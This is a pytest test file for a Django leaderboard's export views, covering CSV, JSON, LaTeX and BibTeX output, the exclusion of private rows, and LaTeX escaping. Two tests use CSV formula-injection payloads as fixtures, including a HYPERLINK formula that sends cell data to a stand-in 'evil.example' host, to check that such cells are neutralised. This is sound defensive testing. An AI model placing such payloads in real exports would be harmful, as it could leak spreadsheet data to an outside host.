"""Exports: parseable files, private rows never included, LaTeX ready for a paper."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from leaderboard.exports import latex_escape
from tests.project import PACKAGES


@pytest.fixture
def board(split_test, alice, bob, staff, make_entry, reported):
    make_entry(split_test, alice, "Alice_sys", {"R@10": 0.7, "MAP@10": 0.3, "MRR@10": 0.5, "nDCG@10": 0.6})
    make_entry(split_test, staff, "BM25", {"R@10": 0.5, "MAP@10": 0.4, "MRR@10": 0.6, "nDCG@10": 0.5}, is_baseline=True)
    make_entry(split_test, alice, "private-one", {"R@10": 0.99}, visibility="private")
    make_entry(split_test, bob, "anon", {"R@10": 0.1}, visibility="anonymous")
    return split_test


def _export(client, fmt, **params):
    return client.get(reverse("leaderboard:export", args=["tiny", fmt]), params)


def test_it_exports_csv_that_the_csv_module_reads(client, board):
    response = _export(client, "csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="tiny-test.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["system"] for r in rows] == ["Alice_sys", "BM25 (paper) & co_1", "BM25", "anon"]
    assert rows[0]["rank"] == "1" and rows[1]["rank"] == "" and rows[1]["kind"] == "reported"
    assert rows[0]["R@10"] == "70.00"  # percent, as the pages show it
    assert rows[3]["owner"] == "anonymous"


def test_it_exports_json_with_context(client, board):
    data = json.loads(_export(client, "json").content)
    assert data["dataset"] == "tiny" and data["split"] == "test" and data["primary_measure"] == "R@10"
    assert data["qrels_version"] == 1
    assert [e["kind"] for e in data["entries"]] == ["scored", "reported", "baseline", "scored"]
    assert data["entries"][0]["scores"]["R@10"] == 0.7


def test_it_never_exports_private_rows_even_to_their_owner(client, board, alice):
    client.force_login(alice)
    for fmt in ("csv", "json", "tex"):
        assert "private-one" not in _export(client, fmt).content.decode()


def test_it_exports_a_booktabs_table_with_the_best_values_in_bold(client, board):
    tex = _export(client, "tex", measures="R@10,MAP@10").content.decode()
    assert "\\toprule" in tex and "\\midrule" in tex and "\\bottomrule" in tex
    assert "\\begin{tabular}{lrr}" in tex
    assert "System & R@10 & MAP@10 \\\\" in tex
    assert "Alice\\_sys & \\textbf{70.00} & 30.00 \\\\" in tex
    assert "BM25 (baseline) & 50.00 & 40.00 \\\\" in tex
    # The reported row: dagger, escaped name, and the footnote; its MAP is the best in the column.
    assert "BM25 (paper) \\& co\\_1$^\\dagger$ & 55.00 & \\textbf{90.00} \\\\" in tex
    assert "Reported in the paper" in tex
    assert "nDCG" not in tex


def test_it_exports_latex_in_percent(client, board):
    tex = _export(client, "tex", measures="R@10").content.decode()
    assert "\\textbf{70.00}" in tex and "in percent" in tex


def test_it_refuses_an_unknown_measure_naming_the_ones_available(client, board):
    response = _export(client, "tex", measures="R@10,P@5")
    assert response.status_code == 400
    assert "P@5" in response.content.decode() and "MAP@10" in response.content.decode()


def test_it_exports_the_dataset_bibtex(client, tiny_dataset):
    assert _export(client, "bib").status_code == 400
    tiny_dataset.citation = "@article{tiny, title={Tiny}}"
    tiny_dataset.save()
    response = _export(client, "bib")
    assert response.status_code == 200 and response.content.decode() == "@article{tiny, title={Tiny}}\n"


def test_it_escapes_every_latex_special_character():
    assert latex_escape("a&b%c$d#e_f{g}h~i^j\\k") == (
        "a\\&b\\%c\\$d\\#e\\_f\\{g\\}h\\textasciitilde{}i\\textasciicircum{}j\\textbackslash{}k"
    )


def test_it_exports_an_empty_board_without_error(client, split_test):
    assert list(csv.reader(io.StringIO(_export(client, "csv").content.decode())))[0][0] == "rank"
    assert "\\toprule" in _export(client, "tex").content.decode()


def test_it_takes_measures_from_the_page_checkboxes_too(client, board):
    response = client.get(
        reverse("leaderboard:export", args=["tiny", "tex"]), {"measures": ["MAP@10", "R@10"], "inline": "1"}
    )
    tex = response.content.decode()
    assert "System & MAP@10 & R@10 \\\\" in tex
    assert response["Content-Disposition"].startswith("inline")


def test_it_answers_head_requests(client, tiny_dataset):
    assert client.head(reverse("leaderboard:dataset", args=["tiny"])).status_code == 200


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
    """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading quote, so it is text, not a formula."""
    from leaderboard.exports import to_csv
    from leaderboard.selectors import LeaderboardRow

    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner=text, family="other",
                         paper_url="", code_url="", date=None, scores={"R@10": 0.5}, team=text)
    parsed = next(csv.DictReader(io.StringIO(to_csv([row], measures=["R@10"]))))
    for field in ("system", "owner", "team"):
        assert parsed[field] == "'" + text
    assert parsed["R@10"] == "50.00"  # numbers stay numbers (percent, as the pages show them)


def test_it_neutralises_a_formula_after_a_separator_and_quotes_every_cell():
    """``x;=HYPERLINK(…)``: a spreadsheet in a ``;``-separated locale splits the cell there and runs the rest."""
    from leaderboard.exports import to_csv
    from leaderboard.selectors import LeaderboardRow

    text = 'x;=HYPERLINK("http://evil.example/?"&A1,"x")'
    row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner="bob", family="other",
                         paper_url="", code_url="", date=None, scores={"R@10": 0.5}, team=" \u200b@SUM(A1)")
    out = to_csv([row], measures=["R@10"])
    parsed = next(csv.DictReader(io.StringIO(out)))
    assert parsed["system"] == "x;'" + text[2:]
    assert parsed["team"] == "' \u200b@SUM(A1)"
    assert all(line.startswith('"') and line.endswith('"') for line in out.splitlines())


def test_every_csv_the_site_writes_goes_through_the_one_writer():
    """``evaluation.csv_cells.csv_rows`` is the one CSV writer (every cell quoted, formulas neutralised).

    Only the demo's release files are written otherwise: they are the dataset's own format, generated text that
    the importers read back, never a participant's words.
    """
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    allowed = {"evaluation/csv_cells.py", "demo/export.py"}
    writers = []
    for package in PACKAGES:
        for path in (root / package).rglob("*.py"):
            rel = path.relative_to(root).as_posix()
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv" and rel not in allowed:
                    writers.append(f"{rel}:{node.lineno}")
    assert not writers, f"write CSV with evaluation.csv_cells.csv_rows, not csv.writer: {', '.join(writers)}"
